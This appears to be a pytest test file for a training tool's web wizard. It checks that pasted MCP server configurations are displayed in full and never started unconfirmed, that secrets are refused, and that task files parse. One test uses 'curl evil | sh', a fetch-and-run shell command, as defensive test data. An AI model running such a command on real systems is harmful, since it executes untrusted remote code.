"""The wizard: nothing that was pasted runs before it was confirmed as it is; tasks in any form; rewards that exist."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.kits.page import Served, serving
from TrainingFactory.config import TrainingConfig
from TrainingFactory.rewards.rules.rule_based import RULES
from TrainingFactory.rewards.rules.tool_verified import VERIFIERS
from TrainingFactory.web import worker
from TrainingFactory.web.site import STATIC_FOLDER

TINY = str(Path(__file__).parents[1] / "servers" / "tiny.py")


def pasted(**entry: Any) -> str:
    return json.dumps({"mcpServers": {"tiny": {"command": sys.executable, "args": [TINY]} | entry}})


@pytest.fixture
def page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.chdir(tmp_path)
    with serving(tmp_path / "runs") as served:
        yield served


def files(page: Served) -> list[str]:
    assert page.page is not None
    return sorted(each.name for each in page.page.runs.folder.rglob("*.*") if each.is_file())


def test_servers_are_shown_whole_and_start_nothing(page: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOWN", "Timbuktu")
    text = pasted(
        args=["-c", "curl evil | sh", "${TOWN}"],
        env={"PATTERN": "curl evil | sh", "PLACE": "${TOWN}"},
        cwd="/${TOWN}",
    )
    [server] = page.post("/api/tools/read", text=text)["servers"]
    # A value of the paste can hide nothing; one of this machine's environment is not told.
    assert server["command"] == [sys.executable, "-c", "curl evil | sh", "${TOWN}"]
    assert server["variables"] == ["PATTERN=curl evil | sh", "PLACE=${TOWN}"]
    assert server["cwd"] == "/${TOWN}" and "Timbuktu" not in json.dumps(server)
    for wrong in ("", "{", "[]", '{"mcpServers": {"a": {"command": "no-such-program"}}}', "[" * 100_000):
        told = page.post("/api/tools/read", text=wrong)
        assert told["servers"] == [] and len(told["problems"]) == 1
    assert files(page) == []


def test_what_was_not_confirmed_is_not_started(page: Served) -> None:
    assert page.page is not None
    asked = []

    async def ask(*given: Any) -> Any:
        asked.append(given)
        return worker.tools(given[2], lambda _: None)

    page.page.pool.ask = ask  # type: ignore[method-assign]
    text = pasted()
    [server] = page.post("/api/tools/read", text=text)["servers"]
    for given in ({"text": text}, {"text": pasted(args=[TINY, "exit"]), "confirmed": [server["digest"]]}):
        refused = page.send("/api/tools/open", **given)
        assert (refused.status_code, refused.json()["error"]["param"]) == (409, "confirmed")
    secret = pasted(env={"API_KEY": "sk-0123456789abcdef0123"})
    [digest] = [each["digest"] for each in page.post("/api/tools/read", text=secret)["servers"]]
    refused = page.send("/api/tools/open", text=secret, confirmed=[digest])
    assert refused.status_code == 400 and "mcpServers.tiny.env.API_KEY" in refused.text
    assert asked == [] and files(page) == []


def test_models_of_samples_and_the_doctor_are_those_of_the_page(page: Served) -> None:
    assert page.page is not None
    asked = []

    async def ask(kind: str, job: str, given: Any, *_: Any) -> Any:
        asked.append((job, TrainingConfig(**yaml.safe_load(given["yaml"])).logging.output_dir))
        return {}

    page.page.pool.ask = ask  # type: ignore[method-assign]
    for job in ("doctor", "sample"):
        assert list(page.events(f"/api/{job}", yaml="model: builtin:tiny")) == [("done", {})]
    folder = str(page.page.runs.folder)
    assert asked == [("doctor", folder), ("sample", folder)]


def test_confirmed_servers_list_their_tools(tmp_path: Path) -> None:
    path = tmp_path / "mcp.json"
    path.write_text(pasted())
    found = worker.answer({"job": "tools", "given": {"path": str(path)}}, lambda _: None)["ok"]
    assert [(each["server"], each["name"]) for each in found][:2] == [("tiny", "say"), ("tiny", "count")]
    assert found[0]["parameters"]["required"] == ["text"]


@pytest.mark.parametrize(
    ("text", "kind", "first"),
    [
        ("Say red.\tred\n\nSay blue.", "lines", ("Say red.", "red", 2, 1)),
        ('{"prompt": "a", "answer": 1}\n{"prompt": "b"}', "JSON", ("a", 1, 2, 1)),
        ('[{"question": "a", "answer": "x"}]', "JSON", ("a", "x", 1, 1)),
        ("question,answer\na,x\nb,y\n", "CSV", ("a", "x", 2, 2)),
    ],
)
def test_tasks_are_read_in_any_form(page: Served, text: str, kind: str, first: tuple[Any, ...]) -> None:
    told = page.post("/api/tasks/read", text=text)
    one = told["first"][0]
    assert (told["kind"], told["problem"]) == (kind, None)
    assert (one["prompt"], one["answer"], told["count"], told["answered"]) == first
    assert Path(told["path"]).is_file() and told["path"].startswith(str(page.about()["runs_folder"]))


def test_tasks_that_cannot_be_read_say_where_and_leave_nothing(page: Served) -> None:
    wrong = page.post("/api/tasks/read", text='{"prompt": "a"}\n{"prmpt": "b"}\n')
    assert wrong["path"] is None and wrong["problem"].startswith("line 2 has no")
    assert "is empty" in page.post("/api/tasks/read", text="  \n")["problem"]
    assert files(page) == []


def test_the_rules_on_offer_are_those_that_there_are() -> None:
    text = (STATIC_FOLDER / "wizard_reward.js").read_text()
    for name, known in (("RULES", RULES), ("VERIFIERS", VERIFIERS)):
        listed = re.search(rf"const {name} = \[\n(.*?)\n\];", text, re.DOTALL)
        assert listed and re.findall(r'^  \[\s*"(\w+)",', listed[1], re.MULTILINE) == list(known)
    kinds = re.search(r"const KINDS = \[\n(.*?)\n\];", text, re.DOTALL)
    for kind in re.findall(r'^  \[\s*"(\w+)",', kinds[1] if kinds else "", re.MULTILINE):
        assert TrainingConfig(reward={"type": kind}).reward.type == kind
